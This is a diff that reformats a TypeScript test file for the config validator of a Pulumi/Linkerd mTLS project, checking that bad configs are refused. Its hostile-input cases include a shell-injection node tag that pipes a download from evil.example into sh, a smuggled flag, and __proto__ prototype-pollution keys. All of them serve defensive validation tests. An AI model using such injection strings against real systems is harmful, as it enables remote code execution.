@@ -22,16 +22,55 @@ interface BadConfig {
 
 const [TRINO] = STRICT["mtls.authorizations"];
 const GKE_PRIVATE = { masterIpv4CidrBlock: "172.16.0.0/28", network: "akko-vpc", nodeTag: "gke-akko" };
-const INGRESS = { enabled: true, host: "linkerd.akko.example", authAnnotations: { "nginx.ingress.kubernetes.io/auth-url": "https://auth.akko.example" } };
+const INGRESS = {
+    enabled: true,
+    host: "linkerd.akko.example",
+    authAnnotations: { "nginx.ingress.kubernetes.io/auth-url": "https://auth.akko.example" },
+};
 
 const BAD_CONFIGS: BadConfig[] = [
-    { why: "unknown target", overrides: { target: "k8s" }, key: "akko-mtls:target", allowed: /"k3d", "k3s", "eks", "gke"/ },
-    { why: "missing target", overrides: { target: undefined }, key: "akko-mtls:target", allowed: /"k3d", "k3s", "eks", "gke"/ },
-    { why: "typo mtls.enable", overrides: { "mtls.enable": true }, key: "akko-mtls:mtls.enable", allowed: /unknown key; allowed here: enabled/ },
-    { why: "enabled is not a boolean", overrides: { "mtls.enabled": "yes" }, key: "akko-mtls:mtls.enabled", allowed: /expected boolean/ },
-    { why: "unknown top-level key", overrides: { "akko-mtls:mtsl": "{}" }, key: "akko-mtls:mtsl", allowed: /allowed here: target, cluster, mtls/ },
-    { why: "chart version range", overrides: { "linkerd.chartVersion": "^2026.8.3" }, key: "akko-mtls:linkerd.chartVersion", allowed: /exact chart version/ },
-    { why: "chart version latest", overrides: { "linkerd.chartVersion": "latest" }, key: "akko-mtls:linkerd.chartVersion", allowed: /exact chart version/ },
+    {
+        why: "unknown target",
+        overrides: { target: "k8s" },
+        key: "akko-mtls:target",
+        allowed: /"k3d", "k3s", "eks", "gke"/,
+    },
+    {
+        why: "missing target",
+        overrides: { target: undefined },
+        key: "akko-mtls:target",
+        allowed: /"k3d", "k3s", "eks", "gke"/,
+    },
+    {
+        why: "typo mtls.enable",
+        overrides: { "mtls.enable": true },
+        key: "akko-mtls:mtls.enable",
+        allowed: /unknown key; allowed here: enabled/,
+    },
+    {
+        why: "enabled is not a boolean",
+        overrides: { "mtls.enabled": "yes" },
+        key: "akko-mtls:mtls.enabled",
+        allowed: /expected boolean/,
+    },
+    {
+        why: "unknown top-level key",
+        overrides: { "akko-mtls:mtsl": "{}" },
+        key: "akko-mtls:mtsl",
+        allowed: /allowed here: target, cluster, mtls/,
+    },
+    {
+        why: "chart version range",
+        overrides: { "linkerd.chartVersion": "^2026.8.3" },
+        key: "akko-mtls:linkerd.chartVersion",
+        allowed: /exact chart version/,
+    },
+    {
+        why: "chart version latest",
+        overrides: { "linkerd.chartVersion": "latest" },
+        key: "akko-mtls:linkerd.chartVersion",
+        allowed: /exact chart version/,
+    },
     {
         why: "chart version with wildcard",
         overrides: { "linkerd.chartVersion": "2026.8.x" },
@@ -50,7 +89,12 @@ const BAD_CONFIGS: BadConfig[] = [
         key: "akko-mtls:identity.issuer.static.validityHours",
         allowed: /expected number/,
     },
-    { why: "unknown issuer mode", overrides: { "identity.issuer.mode": "vault" }, key: "akko-mtls:identity.issuer.mode", allowed: /"static", "certManager"/ },
+    {
+        why: "unknown issuer mode",
+        overrides: { "identity.issuer.mode": "vault" },
+        key: "akko-mtls:identity.issuer.mode",
+        allowed: /"static", "certManager"/,
+    },
     {
         why: "early renewal longer than the validity",
         overrides: { "identity.issuer.static.renewBeforeHours": 9000 },
@@ -76,7 +120,12 @@ const BAD_CONFIGS: BadConfig[] = [
         key: "akko-mtls:linkerd.controllerReplicas",
         allowed: /at least 3/,
     },
-    { why: "zero replicas", overrides: { "linkerd.controllerReplicas": 0 }, key: "akko-mtls:linkerd.controllerReplicas", allowed: /at least 1\b/ },
+    {
+        why: "zero replicas",
+        overrides: { "linkerd.controllerReplicas": 0 },
+        key: "akko-mtls:linkerd.controllerReplicas",
+        allowed: /at least 1\b/,
+    },
     {
         why: "not a quantity",
         overrides: { "linkerd.proxy.resources.memory.request": "lots" },
@@ -120,9 +169,24 @@ const BAD_CONFIGS: BadConfig[] = [
         key: "akko-mtls:linkerd.repository",
         allowed: /.+/,
     },
-    { why: "unknown Gateway API mode", overrides: { "linkerd.gatewayApi": "skip" }, key: "akko-mtls:linkerd.gatewayApi", allowed: /"install", "present"/ },
-    { why: "no kube context", overrides: { "cluster.context": undefined }, key: "akko-mtls:cluster.context", allowed: /is required/ },
-    { why: "invalid trust domain", overrides: { "identity.trustDomain": "Cluster_Local" }, key: "akko-mtls:identity.trustDomain", allowed: /DNS domain/ },
+    {
+        why: "unknown Gateway API mode",
+        overrides: { "linkerd.gatewayApi": "skip" },
+        key: "akko-mtls:linkerd.gatewayApi",
+        allowed: /"install", "present"/,
+    },
+    {
+        why: "no kube context",
+        overrides: { "cluster.context": undefined },
+        key: "akko-mtls:cluster.context",
+        allowed: /is required/,
+    },
+    {
+        why: "invalid trust domain",
+        overrides: { "identity.trustDomain": "Cluster_Local" },
+        key: "akko-mtls:identity.trustDomain",
+        allowed: /DNS domain/,
+    },
     {
         why: "cert-manager issuer renewing after its own expiry",
         overrides: { "identity.issuer.certManager.renewBeforeHours": 48 },
@@ -141,7 +205,12 @@ const BAD_CONFIGS: BadConfig[] = [
         key: "akko-mtls:certManager.highAvailability",
         allowed: /single-node target k3s/,
     },
-    { why: "rotation image by tag", overrides: { "rotationJob.image": "node:24-alpine" }, key: "akko-mtls:rotationJob.image", allowed: /pinned by digest/ },
+    {
+        why: "rotation image by tag",
+        overrides: { "rotationJob.image": "node:24-alpine" },
+        key: "akko-mtls:rotationJob.image",
+        allowed: /pinned by digest/,
+    },
     {
         why: "kubectl image with a short digest",
         overrides: { "rotationJob.kubectlImage": "alpine/k8s@sha256:abc" },
@@ -166,21 +235,36 @@ const BAD_CONFIGS: BadConfig[] = [
         key: "akko-mtls:identity.trustAnchor.rotationPhase",
         allowed: /.+/,
     },
-    { why: "generation zero", overrides: { "identity.trustAnchor.generation": 0 }, key: "akko-mtls:identity.trustAnchor.generation", allowed: /at least 1\b/ },
+    {
+        why: "generation zero",
+        overrides: { "identity.trustAnchor.generation": 0 },
+        key: "akko-mtls:identity.trustAnchor.generation",
+        allowed: /at least 1\b/,
+    },
     {
         why: "a namespace listed twice",
         overrides: { "mtls.namespaces": ["akko", "spark", "akko"] },
         key: "akko-mtls:mtls.namespaces[2]",
         allowed: /lists "akko" twice/,
     },
-    { why: "an invalid namespace name", overrides: { "mtls.namespaces": ["Akko_Data"] }, key: "akko-mtls:mtls.namespaces[0]", allowed: /RFC 1123/ },
+    {
+        why: "an invalid namespace name",
+        overrides: { "mtls.namespaces": ["Akko_Data"] },
+        key: "akko-mtls:mtls.namespaces[0]",
+        allowed: /RFC 1123/,
+    },
     {
         why: "meshing a system namespace",
         overrides: { "mtls.namespaces": ["kube-system"] },
         key: "akko-mtls:mtls.namespaces[0]",
         allowed: /system or mesh namespace/,
     },
-    { why: "no meshed namespace", overrides: { "mtls.namespaces": [] }, key: "akko-mtls:mtls.namespaces", allowed: /at least 1\b/ },
+    {
+        why: "no meshed namespace",
+        overrides: { "mtls.namespaces": [] },
+        key: "akko-mtls:mtls.namespaces",
+        allowed: /at least 1\b/,
+    },
 
     // Maxima: validities and timeouts a provider or Kubernetes cannot hold, and safe integers only.
     {
@@ -371,7 +455,12 @@ const BAD_CONFIGS: BadConfig[] = [
     {
         why: "an auth annotation key with a space",
         stack: "eks",
-        overrides: { "viz.dashboard.ingress": { ...INGRESS, authAnnotations: { "nginx.ingress.kubernetes.io/auth url": "https://auth" } } },
+        overrides: {
+            "viz.dashboard.ingress": {
+                ...INGRESS,
+                authAnnotations: { "nginx.ingress.kubernetes.io/auth url": "https://auth" },
+            },
+        },
         key: 'akko-mtls:viz.dashboard.ingress.authAnnotations["nginx.ingress.kubernetes.io/auth url"]',
         allowed: /not a valid annotation key/,
         value: "https://auth",
@@ -436,7 +525,10 @@ const BAD_CONFIGS: BadConfig[] = [
     // Strict authorizations.
     {
         why: "a client in a namespace that is not meshed",
-        overrides: { ...STRICT, "mtls.authorizations": [{ ...TRINO, clients: ["etl.web.serviceaccount.identity.linkerd.cluster.local"] }] },
+        overrides: {
+            ...STRICT,
+            "mtls.authorizations": [{ ...TRINO, clients: ["etl.web.serviceaccount.identity.linkerd.cluster.local"] }],
+        },
         key: "akko-mtls:mtls.authorizations[0].clients[0]",
         allowed: /names a namespace \(its second part\) that is not meshed/,
         value: "etl.web.serviceaccount.identity.linkerd.cluster.local",
@@ -473,7 +565,10 @@ const BAD_CONFIGS: BadConfig[] = [
     },
     {
         why: "a client listed twice",
-        overrides: { ...STRICT, "mtls.authorizations": [{ ...TRINO, clients: [TRINO.clients![0], TRINO.clients![0]] }] },
+        overrides: {
+            ...STRICT,
+            "mtls.authorizations": [{ ...TRINO, clients: [TRINO.clients![0], TRINO.clients![0]] }],
+        },
         key: "akko-mtls:mtls.authorizations[0].clients[1]",
         allowed: /repeats item 0/,
         value: TRINO.clients![0],
@@ -493,7 +588,12 @@ const BAD_CONFIGS: BadConfig[] = [
         key: "akko-mtls:cluster.context",
         allowed: /a kubeconfig context name: letters, digits and/,
     },
-    { why: "a kube context with a trailing space", overrides: { "cluster.context": "netcup " }, key: "akko-mtls:cluster.context", allowed: /no spaces/ },
+    {
+        why: "a kube context with a trailing space",
+        overrides: { "cluster.context": "netcup " },
+        key: "akko-mtls:cluster.context",
+        allowed: /no spaces/,
+    },
     {
         why: "an empty dashboards folder",
         overrides: { "observability.grafanaDashboards.folder": "" },
@@ -509,7 +609,12 @@ const BAD_CONFIGS: BadConfig[] = [
     },
 
     // Zero Prometheus retention: Prometheus reads 0 as its default (time) or no limit (size).
-    { why: "a retention of 0h", overrides: { "viz.prometheus.retention": "0h" }, key: "akko-mtls:viz.prometheus.retention", allowed: /more than zero/ },
+    {
+        why: "a retention of 0h",
+        overrides: { "viz.prometheus.retention": "0h" },
+        key: "akko-mtls:viz.prometheus.retention",
+        allowed: /more than zero/,
+    },
     {
         why: "a retention size of 0MB",
         overrides: { "viz.prometheus.retentionSize": "0MB" },
@@ -518,14 +623,16 @@ const BAD_CONFIGS: BadConfig[] = [
     },
 
     // Hostile input (issue 17): each was accepted, or refused only after resources were registered.
-    ...(["gke-akko; curl http://evil.example/x | sh", "gke-akko\n--allow=all", "GKE_AKKO", "-gke", "a".repeat(64)].map((nodeTag) => ({
-        why: `a GKE node tag ${JSON.stringify(nodeTag.slice(0, 30))} (printed into the gcloud command operators copy)`,
-        stack: "gke",
-        overrides: { "cluster.gkePrivate": { ...GKE_PRIVATE, nodeTag } },
-        key: "akko-mtls:cluster.gkePrivate.nodeTag",
-        allowed: /a GCE network tag: lower-case letters, digits and -/,
-        value: nodeTag,
-    })) as BadConfig[]),
+    ...(["gke-akko; curl http://evil.example/x | sh", "gke-akko\n--allow=all", "GKE_AKKO", "-gke", "a".repeat(64)].map(
+        (nodeTag) => ({
+            why: `a GKE node tag ${JSON.stringify(nodeTag.slice(0, 30))} (printed into the gcloud command operators copy)`,
+            stack: "gke",
+            overrides: { "cluster.gkePrivate": { ...GKE_PRIVATE, nodeTag } },
+            key: "akko-mtls:cluster.gkePrivate.nodeTag",
+            allowed: /a GCE network tag: lower-case letters, digits and -/,
+            value: nodeTag,
+        }),
+    ) as BadConfig[]),
     {
         why: "a GKE network with a shell character",
         stack: "gke",
@@ -560,7 +667,12 @@ const BAD_CONFIGS: BadConfig[] = [
         key: "akko-mtls:linkerd.cni.binDir",
         allowed: binDir === "/" ? /must not be the root/ : /an absolute, normalized path/,
     })) as BadConfig[]),
-    { why: "a CNI netDir of /", overrides: { "linkerd.cni.netDir": "/" }, key: "akko-mtls:linkerd.cni.netDir", allowed: /must not be the root/ },
+    {
+        why: "a CNI netDir of /",
+        overrides: { "linkerd.cni.netDir": "/" },
+        key: "akko-mtls:linkerd.cni.netDir",
+        allowed: /must not be the root/,
+    },
     {
         why: 'a proxy memory limit of "1" (every proxy OOM-killed)',
         overrides: { "linkerd.proxy.resources.memory.limit": "1" },
@@ -598,7 +710,12 @@ const BAD_CONFIGS: BadConfig[] = [
         key: "akko-mtls:viz.prometheus.retention",
         allowed: /at most 10y/,
     },
-    { why: "a retention of 5m", overrides: { "viz.prometheus.retention": "5m" }, key: "akko-mtls:viz.prometheus.retention", allowed: /at least 1h/ },
+    {
+        why: "a retention of 5m",
+        overrides: { "viz.prometheus.retention": "5m" },
+        key: "akko-mtls:viz.prometheus.retention",
+        allowed: /at least 1h/,
+    },
     {
         why: "a retention size of 1000000TB",
         overrides: { "viz.prometheus.retentionSize": "1000000TB" },
@@ -658,7 +775,9 @@ const BAD_CONFIGS: BadConfig[] = [
     {
         why: "an empty forward-auth annotation",
         stack: "eks",
-        overrides: { "viz.dashboard.ingress": { ...INGRESS, authAnnotations: { "nginx.ingress.kubernetes.io/auth-url": "" } } },
+        overrides: {
+            "viz.dashboard.ingress": { ...INGRESS, authAnnotations: { "nginx.ingress.kubernetes.io/auth-url": "" } },
+        },
         key: 'akko-mtls:viz.dashboard.ingress.authAnnotations["nginx.ingress.kubernetes.io/auth-url"]',
         allowed: /must not be empty: an empty forward-auth annotation asks no one/,
         value: "",
@@ -666,15 +785,23 @@ const BAD_CONFIGS: BadConfig[] = [
     {
         why: "a configuration snippet as the dashboard's auth annotation",
         stack: "eks",
-        overrides: { "viz.dashboard.ingress": { ...INGRESS, authAnnotations: { "nginx.ingress.kubernetes.io/configuration-snippet": "allow all;" } } },
+        overrides: {
+            "viz.dashboard.ingress": {
+                ...INGRESS,
+                authAnnotations: { "nginx.ingress.kubernetes.io/configuration-snippet": "allow all;" },
+            },
+        },
         key: 'akko-mtls:viz.dashboard.ingress.authAnnotations["nginx.ingress.kubernetes.io/configuration-snippet"]',
-        allowed: /is not a forward-auth annotation; the gates are nginx\.ingress\.kubernetes\.io\/auth-url \(ingress-nginx\)/,
+        allowed:
+            /is not a forward-auth annotation; the gates are nginx\.ingress\.kubernetes\.io\/auth-url \(ingress-nginx\)/,
         value: "allow all;",
     },
     {
         why: "an ALB Ingress whose auth type is none",
         stack: "eks",
-        overrides: { "viz.dashboard.ingress": { ...INGRESS, authAnnotations: { "alb.ingress.kubernetes.io/auth-type": "none" } } },
+        overrides: {
+            "viz.dashboard.ingress": { ...INGRESS, authAnnotations: { "alb.ingress.kubernetes.io/auth-type": "none" } },
+        },
         key: 'akko-mtls:viz.dashboard.ingress.authAnnotations["alb.ingress.kubernetes.io/auth-type"]',
         allowed: /must be "oidc" or "cognito"/,
         value: "none",
@@ -696,7 +823,10 @@ const BAD_CONFIGS: BadConfig[] = [
     {
         why: "k3s Traefik values with a controller in its own namespace (ignored)",
         stack: "eks",
-        overrides: { "mtls.ingress.k3sTraefikValues": { ports: { web: { port: 8000 } } }, "mtls.ingress.enabled": true },
+        overrides: {
+            "mtls.ingress.k3sTraefikValues": { ports: { web: { port: 8000 } } },
+            "mtls.ingress.enabled": true,
+        },
         key: "akko-mtls:mtls.ingress.k3sTraefikValues",
         allowed: /applies only to k3s' Traefik/,
     },
@@ -746,7 +876,8 @@ describe("bad configs are rejected before any resource is registered", () => {
                     : setKey.startsWith("mtls.namespaces") && problem.key !== "akko-mtls:mtls.namespaces"
                       ? (set as string[])[Number(/\[([0-9]+)\]$/.exec(problem.key)![1])]
                       : set;
-            if (typeof set !== "string" || !set.startsWith("{")) assert.deepEqual(problem.value, reported, "the value found is reported");
+            if (typeof set !== "string" || !set.startsWith("{"))
+                assert.deepEqual(problem.value, reported, "the value found is reported");
             assert.ok(run.error.message.includes(bad.key), "the message names the key");
             // Nothing of the program (at most the stack resource itself), no Kubernetes object.
             assert.deepEqual(
@@ -788,10 +919,19 @@ describe("presets and overrides", () => {
         assert.ok(!result.success);
         assert.deepEqual(
             result.error.issues.map((i) => [i.path.join("."), i.message]),
-            [["linkerd.controlPlaneResources.destination.cpu.limit", "is required on the single-node target k3d (every container has explicit limits)"]],
+            [
+                [
+                    "linkerd.controlPlaneResources.destination.cpu.limit",
+                    "is required on the single-node target k3d (every container has explicit limits)",
+                ],
+            ],
         );
         const eks = structuredClone(resolveConfig({ target: "eks", cluster: { context: "x" } })) as any;
-        assert.equal(eks.linkerd.proxy.resources.cpu.limit, undefined, "HA leaves the proxy CPU unlimited, as values-ha.yaml");
+        assert.equal(
+            eks.linkerd.proxy.resources.cpu.limit,
+            undefined,
+            "HA leaves the proxy CPU unlimited, as values-ha.yaml",
+        );
         assert.ok(configSchema.safeParse(eks).success);
     });
 
@@ -817,8 +957,16 @@ async function runRaw(entries: Record<string, string>, secretKeys?: string[]) {
 
 describe("keys that are not keys: __proto__, constructor, prototype", () => {
     const cases: [string, Record<string, string>, string][] = [
-        ["__proto__ inside a section", { "akko-mtls:mtls": '{"enabled":true,"__proto__":{"enabled":false}}' }, "akko-mtls:mtls.__proto__"],
-        ["constructor deep down", { "akko-mtls:linkerd": '{"proxy":{"resources":{"constructor":{"x":1}}}}' }, "akko-mtls:linkerd.proxy.resources.constructor"],
+        [
+            "__proto__ inside a section",
+            { "akko-mtls:mtls": '{"enabled":true,"__proto__":{"enabled":false}}' },
+            "akko-mtls:mtls.__proto__",
+        ],
+        [
+            "constructor deep down",
+            { "akko-mtls:linkerd": '{"proxy":{"resources":{"constructor":{"x":1}}}}' },
+            "akko-mtls:linkerd.proxy.resources.constructor",
+        ],
         [
             "prototype inside a list's object",
             { "akko-mtls:mtls": JSON.stringify({ authorizations: [{ prototype: {} }] }) },
@@ -844,8 +992,14 @@ describe("keys that are not keys: __proto__, constructor, prototype", () => {
 
     it("the fix names the exact path", () => {
         assert.throws(
-            () => resolveConfig(JSON.parse('{"target":"k3s","cluster":{"context":"x"},"mtls":{"authorizations":[{"__proto__":{}}]}}')),
-            (error: ConfigError) => error.problems[0].message.endsWith("(pulumi config rm --path 'mtls.authorizations[0].__proto__')"),
+            () =>
+                resolveConfig(
+                    JSON.parse(
+                        '{"target":"k3s","cluster":{"context":"x"},"mtls":{"authorizations":[{"__proto__":{}}]}}',
+                    ),
+                ),
+            (error: ConfigError) =>
+                error.problems[0].message.endsWith("(pulumi config rm --path 'mtls.authorizations[0].__proto__')"),
         );
         assert.throws(
             () => resolveConfig(JSON.parse('{"target":"k3s","cluster":{"context":"x"},"__proto__":{}}')),
@@ -884,7 +1038,10 @@ describe("hints for common mistakes", () => {
             /Fix: pulumi config rm akko-mtls:observability\.grafanaDashboards\.folder && pulumi config set --path observability\.grafanaDashboards\.folder 'Linkerd mTLS'$/,
         );
         // A value the key refuses anyway gets no command that would store it: removal, and what is wrong with it.
-        const invalid = await problemOf({ "akko-mtls:viz.dashboard.ingress.className": "nginx public" }, "akko-mtls:viz.dashboard.ingress.className");
+        const invalid = await problemOf(
+            { "akko-mtls:viz.dashboard.ingress.className": "nginx public" },
+            "akko-mtls:viz.dashboard.ingress.className",
+        );
         assert.match(
             invalid.problem.message,
             /Fix: pulumi config rm akko-mtls:viz\.dashboard\.ingress\.className, then set a value it takes with pulumi config set --path viz\.dashboard\.ingress\.className <value> \(this one is not: a Kubernetes object name/,
@@ -896,8 +1053,14 @@ describe("hints for common mistakes", () => {
             /Fix: pulumi config rm akko-mtls:mtls\.namespaces && pulumi config set --path 'mtls\.namespaces\[0\]' akko && pulumi config set --path 'mtls\.namespaces\[1\]' spark$/,
         );
         // Text that --path would store typed keeps the type the key wants with --type string.
-        const label = await problemOf({ "akko-mtls:observability.grafanaDashboards.labelValue": "1" }, "akko-mtls:observability.grafanaDashboards.labelValue");
-        assert.match(label.problem.message, /&& pulumi config set --type string --path observability\.grafanaDashboards\.labelValue 1$/);
+        const label = await problemOf(
+            { "akko-mtls:observability.grafanaDashboards.labelValue": "1" },
+            "akko-mtls:observability.grafanaDashboards.labelValue",
+        );
+        assert.match(
+            label.problem.message,
+            /&& pulumi config set --type string --path observability\.grafanaDashboards\.labelValue 1$/,
+        );
     });
 
     it("a secret set without --path: the fix keeps it secret and never shows it", async () => {
@@ -911,7 +1074,9 @@ describe("hints for common mistakes", () => {
     });
 
     it("a secret section's wrong type: a hint without the value", async () => {
-        const entries = { "akko-mtls:observability": JSON.stringify({ runbookUrl: 12345678, prometheusOperator: "true" }) };
+        const entries = {
+            "akko-mtls:observability": JSON.stringify({ runbookUrl: 12345678, prometheusOperator: "true" }),
+        };
         const run = await runRaw(entries, ["akko-mtls:observability"]);
         assert.ok(run.error instanceof ConfigError);
         assert.ok(!run.error.message.includes("12345678"), run.error.message);
@@ -944,10 +1109,18 @@ describe("hints for common mistakes", () => {
         );
         const decimal = await runStack("netcup", { "rotationJob.windowHours": "1.5" });
         assert.ok(decimal.error instanceof ConfigError);
-        assert.equal(decimal.error.problems[0].message, "expected number", "--path would store 1.5 as text too: no command to offer");
+        assert.equal(
+            decimal.error.problems[0].message,
+            "expected number",
+            "--path would store 1.5 as text too: no command to offer",
+        );
         const zero = await runStack("netcup", { "rotationJob.deadlineMinutes": "050" });
         assert.ok(zero.error instanceof ConfigError);
-        assert.match(zero.error.problems[0].message, /pulumi config set --path rotationJob\.deadlineMinutes 50 /, "a leading zero is what made it text");
+        assert.match(
+            zero.error.problems[0].message,
+            /pulumi config set --path rotationJob\.deadlineMinutes 50 /,
+            "a leading zero is what made it text",
+        );
         const bool = await runStack("netcup", { "mtls.enabled": "true" });
         assert.ok(bool.error instanceof ConfigError);
         assert.match(
@@ -985,7 +1158,10 @@ describe("hints for common mistakes", () => {
         }
         const one = await runStack("netcup", { "mtls.enabled": 1 });
         assert.ok(one.error instanceof ConfigError);
-        assert.match(one.error.problems[0].message, /^expected boolean, got the number 1: a boolean is true or false, .*set --path mtls\.enabled true /);
+        assert.match(
+            one.error.problems[0].message,
+            /^expected boolean, got the number 1: a boolean is true or false, .*set --path mtls\.enabled true /,
+        );
         const maybe = await runStack("netcup", { "mtls.enabled": "maybe" });
         assert.ok(maybe.error instanceof ConfigError);
         assert.equal(maybe.error.problems[0].message, "expected boolean", "no hint for text that is no boolean");
@@ -1000,10 +1176,16 @@ describe("hints for common mistakes", () => {
         );
         const json = await runStack("netcup", { "mtls.ingress": '{"enabled":true}' });
         assert.ok(json.error instanceof ConfigError);
-        assert.match(json.error.problems[0].message, /^expected object, got JSON as text: .*pulumi config set --path mtls\.ingress\.enabled <value>/);
+        assert.match(
+            json.error.problems[0].message,
+            /^expected object, got JSON as text: .*pulumi config set --path mtls\.ingress\.enabled <value>/,
+        );
         const top = await runRaw({ "akko-mtls:mtls": "true" });
         assert.ok(top.error instanceof ConfigError);
-        assert.match(top.error.problems[0].message, /^expected object, got the value true: this key holds the keys enabled, namespaces/);
+        assert.match(
+            top.error.problems[0].message,
+            /^expected object, got the value true: this key holds the keys enabled, namespaces/,
+        );
         const map = await runStack("netcup", { "observability.ruleLabels": "release" });
         assert.ok(map.error instanceof ConfigError);
         assert.match(
@@ -1023,7 +1205,10 @@ describe("messages that say what is wrong (issue 19)", () => {
     it("a number too large for JSON (1e309) is named as such, not reported as null", async () => {
         const run = await runRaw({ "akko-mtls:rotationJob": '{"windowHours":1e309}' });
         assert.ok(run.error instanceof ConfigError, String(run.error));
-        assert.match(run.error.message, /akko-mtls:rotationJob\.windowHours: expected number: Infinity is no number the config can hold \(got Infinity\)/);
+        assert.match(
+            run.error.message,
+            /akko-mtls:rotationJob\.windowHours: expected number: Infinity is no number the config can hold \(got Infinity\)/,
+        );
         assert.doesNotMatch(run.error.message, /got null/);
     });
 
@@ -1031,8 +1216,14 @@ describe("messages that say what is wrong (issue 19)", () => {
         const { port: _port, ...portless } = TRINO;
         const run = await runStack("netcup", { ...STRICT, "mtls.authorizations": [portless] });
         assert.ok(run.error instanceof ConfigError, String(run.error));
-        assert.match(run.error.message, /akko-mtls:mtls\.authorizations\[0\]\.port: is required \(integer 1–65535 or string\)/);
-        const network = await runStack("netcup", { ...STRICT, "mtls.authorizations": [{ ...TRINO, clients: undefined, networks: ["kubelet"] }] });
+        assert.match(
+            run.error.message,
+            /akko-mtls:mtls\.authorizations\[0\]\.port: is required \(integer 1–65535 or string\)/,
+        );
+        const network = await runStack("netcup", {
+            ...STRICT,
+            "mtls.authorizations": [{ ...TRINO, clients: undefined, networks: ["kubelet"] }],
+        });
         assert.ok(network.error instanceof ConfigError, String(network.error));
         assert.match(network.error.message, /networks\[0\]: expected CIDR \(IPv4 or IPv6\) \(got "kubelet"\)/);
         for (const refused of [run, network]) assert.doesNotMatch(refused.error!.message, /Invalid input/);
@@ -1064,7 +1255,9 @@ function applyCommand(config: Record<string, string>, words: string[]): Record<s
         return { ...config, [topKey]: JSON.stringify(root) };
     }
     // --type string: the text as given, not coerced to a boolean or a number.
-    return configSetPath(config, args[0], args[1], "akko-mtls", { type: rest.includes("string") ? "string" : undefined });
+    return configSetPath(config, args[0], args[1], "akko-mtls", {
+        type: rest.includes("string") ? "string" : undefined,
+    });
 }
 
 /**
@@ -1095,10 +1288,16 @@ describe("a suggested fix is itself valid (issue 17)", () => {
         { "akko-mtls:rotationJob": '{"windowHours":"99"}' },
         { "akko-mtls:identity": '{"trustAnchor":{"rotationPhase":"1"}}' },
         { "akko-mtls:identity": '{"trustAnchor":{"rotationPhase":"7"}}' },
-        ...["true", "True", "yes", "1", "off", "0"].map((text) => ({ "akko-mtls:mtls": JSON.stringify({ enabled: text }) })),
+        ...["true", "True", "yes", "1", "off", "0"].map((text) => ({
+            "akko-mtls:mtls": JSON.stringify({ enabled: text }),
+        })),
         { "akko-mtls:mtls": '{"namespaces":"[\\"akko\\",\\"spark\\"]"}' },
         { "akko-mtls:mtls": '{"namespaces":"[\\"Akko_Data\\"]"}' },
-        { "akko-mtls:mtls": JSON.stringify({ namespaces: JSON.stringify(Array.from({ length: 12 }, (_, i) => `ns${i}`)) }) },
+        {
+            "akko-mtls:mtls": JSON.stringify({
+                namespaces: JSON.stringify(Array.from({ length: 12 }, (_, i) => `ns${i}`)),
+            }),
+        },
         { "akko-mtls:mtls": '{"namespaces":"akko"}' },
         { "akko-mtls:mtls.enabled": "true" },
         { "akko-mtls:mtls.enabled": "yes" },
@@ -1108,8 +1307,20 @@ describe("a suggested fix is itself valid (issue 17)", () => {
         { "akko-mtls:observability.grafanaDashboards.labelValue": "1" },
         { "akko-mtls:linkerd.controllerReplicas": "2" },
         { "akko-mtls:linkerd.controllerReplicas": "9" },
-        { "akko-mtls:mtls": JSON.stringify({ enabled: true, mode: "strict", authorizations: [{ ...TRINO, port: "8080" }] }) },
-        { "akko-mtls:mtls": JSON.stringify({ enabled: true, mode: "strict", authorizations: [{ ...TRINO, port: "99999" }] }) },
+        {
+            "akko-mtls:mtls": JSON.stringify({
+                enabled: true,
+                mode: "strict",
+                authorizations: [{ ...TRINO, port: "8080" }],
+            }),
+        },
+        {
+            "akko-mtls:mtls": JSON.stringify({
+                enabled: true,
+                mode: "strict",
+                authorizations: [{ ...TRINO, port: "99999" }],
+            }),
+        },
         { "akko-mtls:mtls": '{"enabled":true,"__proto__":{"enabled":false}}' },
     ];
 
@@ -1146,7 +1357,9 @@ describe("a suggested fix is itself valid (issue 17)", () => {
                 for (const chain of suggestedCommands(problem.message)) {
                     let fixed = config;
                     for (const words of chain) fixed = applyCommand(fixed, words);
-                    const still = resolve(fixed).filter((p) => p.key === problem.key || p.key.startsWith(`${problem.key}[`));
+                    const still = resolve(fixed).filter(
+                        (p) => p.key === problem.key || p.key.startsWith(`${problem.key}[`),
+                    );
                     assert.deepEqual(still, [], `${problem.key}: ${chain.map((w) => w.join(" ")).join(" && ")}`);
                     applied++;
                 }
@@ -1157,17 +1370,24 @@ describe("a suggested fix is itself valid (issue 17)", () => {
 });
 
 describe("a colon typed for a dot: `pulumi config set --path mtls:enabled true` (issue 19)", () => {
-    const registered = (run: Awaited<ReturnType<typeof runProgram>>) => run.resources.filter((r) => r.type !== "pulumi:pulumi:Stack");
+    const registered = (run: Awaited<ReturnType<typeof runProgram>>) =>
+        run.resources.filter((r) => r.type !== "pulumi:pulumi:Stack");
 
     it("is refused by the program itself, with the command that stores the key meant, before anything is registered", async () => {
         // What the CLI stores for `pulumi config set --path mtls:enabled true`: key `enabled` of a namespace `mtls`.
-        const run = await runProgram({ stack: "netcup", config: { ...readStackConfig("netcup"), "mtls:enabled": "true" } });
+        const run = await runProgram({
+            stack: "netcup",
+            config: { ...readStackConfig("netcup"), "mtls:enabled": "true" },
+        });
         assert.ok(run.error instanceof ConfigError, String(run.error));
         assert.deepEqual(
             run.error.problems.map((p) => p.key),
             ["mtls:enabled"],
         );
-        assert.match(run.error.message, /which nothing reads .*Fix: pulumi config rm mtls:enabled && pulumi config set --path mtls\.enabled true$/m);
+        assert.match(
+            run.error.message,
+            /which nothing reads .*Fix: pulumi config rm mtls:enabled && pulumi config set --path mtls\.enabled true$/m,
+        );
         assert.deepEqual(registered(run), [], "nothing registered");
     });
 
@@ -1183,12 +1403,18 @@ describe("a colon typed for a dot: `pulumi config set --path mtls:enabled true` 
             run.error.message,
             /mtls:namespaceOptions: .*pulumi config rm mtls:namespaceOptions && pulumi config set --path mtls\.namespaceOptions\.akko\.denyIngress false$/m,
         );
-        assert.match(run.error.message, /viz:dashboard: .*pulumi config rm viz:dashboard && pulumi config set --secret --path viz\.dashboard <value>$/m);
+        assert.match(
+            run.error.message,
+            /viz:dashboard: .*pulumi config rm viz:dashboard && pulumi config set --secret --path viz\.dashboard <value>$/m,
+        );
         assert.doesNotMatch(run.error.message, /s3cr3t/);
     });
 
     it("other namespaces (a provider's `kubernetes:context`) are left alone", async () => {
-        const run = await runProgram({ stack: "netcup", config: { ...readStackConfig("netcup"), "kubernetes:context": "other" } });
+        const run = await runProgram({
+            stack: "netcup",
+            config: { ...readStackConfig("netcup"), "kubernetes:context": "other" },
+        });
         assert.equal(run.error, undefined, String(run.error));
     });
 });
